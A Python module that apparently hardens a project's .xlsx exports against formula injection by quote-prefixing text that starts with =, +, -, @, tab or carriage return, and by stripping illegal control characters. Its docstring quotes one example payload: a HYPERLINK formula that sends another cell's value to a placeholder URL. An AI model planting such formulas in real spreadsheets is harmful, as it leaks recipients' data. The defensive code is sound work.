"""What every .xlsx writer shares: cells that stay inert and characters a workbook cannot hold.

A text such as `=HYPERLINK("http://…?d="&B2,"Klik")` typed as a kader's name must reach Excel as that text, never as
a live formula: any text cell starting with =, +, -, @, a tab or a carriage return is stored as a string with
Excel's quote prefix (shown as typed, not evaluated, also after the user edits the cell). Control characters that
the file format cannot hold are dropped instead of failing the whole export.
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def clean(value: object) -> object:
    """A value the format can hold: text without the control characters .xlsx forbids."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def append(sheet: Any, values: Iterable[object]) -> None:
    """sheet.append with every value cleaned."""
    sheet.append([clean(v) for v in values])


def make_inert(book: Any) -> None:
    """Every text cell that a spreadsheet would run as a formula becomes plain text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(FORMULA_START):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def save(book: Any, path: Path) -> Path:
    """Save a workbook after making it inert (the one way our writers save)."""
    make_inert(book)
    book.save(path)
    return path
